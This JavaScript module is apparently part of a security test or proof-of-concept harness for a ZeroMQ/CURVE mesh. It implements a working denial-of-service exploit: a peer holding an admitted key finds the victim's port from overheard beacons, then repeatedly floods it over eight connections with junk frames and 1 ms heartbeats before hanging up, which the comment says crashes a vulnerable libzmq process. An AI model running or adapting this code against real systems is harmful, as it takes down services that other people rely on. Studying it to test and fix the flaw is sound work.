// Who has a key that is admitted, and uses it to overrun others. A target is { address, mailbox, hub, clientAddress, victim, keyFile, ... }.
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';
import { curveKeyFromBytes } from '@zfarm/zre/core';
import { Dealer } from 'zeromq';
import { overheard } from './beacons.mjs';

const CONNECTIONS = 8;
const FLOOD_MS = 400;

/**
 * More than is read, with heartbeats in between, and then the line goes dead: again and again. That ends a process whose libzmq finds a
 * heartbeat in what it had left unread.
 */
export async function floodAndHangUp(target) {
  const { publicKey, secretKey } = JSON.parse(readFileSync(target.keyFile, 'utf8'));
  const beacon = await overheard(target, target.victim);
  const host = target.victim === 'worker' ? target.address : target.clientAddress;
  const mailbox = `tcp://${host}:${beacon.readUInt16BE(20)}`;
  const endpoint = target.atHub ? `tcp://${host}:${target.hub}` : mailbox;
  for (let round = 0; round < target.rounds; round += 1) {
    const dealers = Array.from({ length: CONNECTIONS }, () => {
      const dealer = new Dealer({
        linger: 0,
        sendTimeout: 0,
        heartbeatInterval: 1,
        heartbeatTimeout: 60_000,
        routingId: Buffer.concat([Buffer.from([1]), randomBytes(16)]),
        curveServerKey: curveKeyFromBytes(beacon, 22),
        curvePublicKey: publicKey,
        curveSecretKey: secretKey,
      });
      dealer.connect(endpoint);
      return dealer;
    });
    const end = Date.now() + FLOOD_MS;
    await Promise.all(dealers.map((dealer) => pour(dealer, end)));
    for (const dealer of dealers) dealer.close();
  }
  return { rounds: target.rounds };
}

async function pour(dealer, end) {
  const nonsense = Buffer.alloc(10);
  while (Date.now() < end) await dealer.send(nonsense).catch(() => delay(1));
}
